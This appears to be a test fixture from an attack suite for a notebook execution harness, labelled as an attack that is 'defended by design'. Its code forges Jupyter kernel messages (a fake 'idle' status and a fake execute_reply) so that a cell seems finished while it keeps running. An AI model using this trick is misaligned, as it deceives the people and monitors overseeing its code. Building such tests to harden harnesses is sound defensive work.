# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import time

from IPython import get_ipython

# The cell seems to have ended, and goes on while the next ones seem to run.
print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
kernel.session.send(
    kernel.iopub_thread.socket, "status", {"execution_state": "idle"}, parent=parent
)
reply = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
for channel in ("shell_stream", "shell_socket", "control_stream"):
    stream = getattr(kernel, channel, None)
    if stream is not None:
        ident = kernel._parent_ident["shell"]
        try:
            kernel.session.send(stream, "execute_reply", reply, parent=parent, ident=ident)
        except Exception as error:
            print(error)
time.sleep(0.3)
